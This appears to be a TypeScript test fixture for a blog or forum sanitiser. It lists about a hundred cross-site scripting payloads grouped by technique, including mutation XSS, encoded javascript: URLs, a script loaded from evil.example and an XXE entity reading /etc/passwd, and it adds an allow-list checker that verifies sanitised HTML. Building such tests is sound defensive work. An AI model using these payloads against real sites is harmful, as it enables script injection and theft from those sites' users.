/** Payloads that try to run a script through post HTML, titles or comments, by the trick they use. */
export const xssPayloads: readonly string[] = [
  // Plain elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<script/src=data:,alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script\n>alert(1)</script\n>",
  "<script\0>alert(1)</script>".replaceAll("\0", ""),
  "</p><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=javascript:alert(1)//>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<isindex action=javascript:alert(1) type=image>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<body onload=alert(1)>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  // Event handlers on allowed elements
  "<img src=x onerror=alert(1)>",
  '<img src="https://a.example/a.png" onerror="alert(1)">',
  '<img src="https://a.example/a.png"onload=alert(1)>',
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=`x`onerror=alert(1)>",
  '<a onmouseover="alert(1)" href="https://a.example/">x</a>',
  "<p onclick=alert(1)>x</p>",
  "<pre class=language-js onpointerenter=alert(1)>x</pre>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
  '<li tabindex=0 onfocus="alert(1)">x</li>',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
  `<a href='https://a.example/" onclick="alert(1)'>x</a>`,
  '<img src="javascript:alert(1)">',
  '<img src="https://a.example/&quot; onerror=&quot;alert(1)">',
  '<img src="https://a.example/a.png" alt="&quot; onerror=&quot;alert(1)">',
  `<img src="https://a.example/a.png" alt='"><script>alert(1)</script>'>`,
  '<img srcset="javascript:alert(1) 1x" src="https://a.example/a.png">',
  '<img src="/uploads/a.png&quot; onerror=&quot;alert(1)">',
  // Foreign content and parser confusion (mutation XSS)
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<select><template><img src=x onerror=alert(1)></template></select>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
  "<a href='https://a.example/'><a href='javascript:alert(1)'>x</a></a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  '<p title="<!--"><img src=x onerror=alert(1)>-->',
  "<p/onclick=alert(1)/>x",
  "<\u0000img src=x onerror=alert(1)>".replaceAll("\u0000", ""),
  "\u2028<img src=x onerror=alert(1)>\u2029",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "{{constructor.constructor('alert(1)')()}}",
  "javascript:alert(1)",
];

const attribute = / ([a-z]+)="([^"<>]*)"/g;
const safe: Record<string, (value: string, tag: string) => boolean> = {
  href: (value, tag) => tag === "a" && /^(https?:|mailto:)/.test(value),
  rel: (value, tag) => tag === "a" && value === "nofollow ugc noopener",
  src: (value, tag) => tag === "img" && /^(https:\/\/|\/uploads\/)/.test(value),
  alt: (_, tag) => tag === "img",
  class: (value, tag) => (tag === "pre" || tag === "code") && /^language-[\w+#-]+$/.test(value),
};

/**
 * Whether HTML consists of nothing but the allow-list, read by its own small scanner: every `<` starts an allowed
 * tag whose attributes are quoted, allowed and harmless. Independent of the sanitiser it checks.
 */
export function isSafeHtml(html: string): boolean {
  for (let at = html.indexOf("<"); at >= 0; at = html.indexOf("<", at + 1)) {
    const tag =
      /^<(\/)?(p|br|hr|h[2-4]|blockquote|ul|ol|li|strong|em|s|u|code|pre|a|img)((?: [a-z]+="[^"<>]*")*)( \/)?>/.exec(
        html.slice(at),
      );
    if (!tag) return false;
    const [, closing, name = "", attributes = ""] = tag;
    if (closing && attributes) return false;
    for (const [, key = "", value = ""] of attributes.matchAll(attribute)) {
      if (!safe[key]?.(value, name)) return false;
    }
  }
  return true;
}
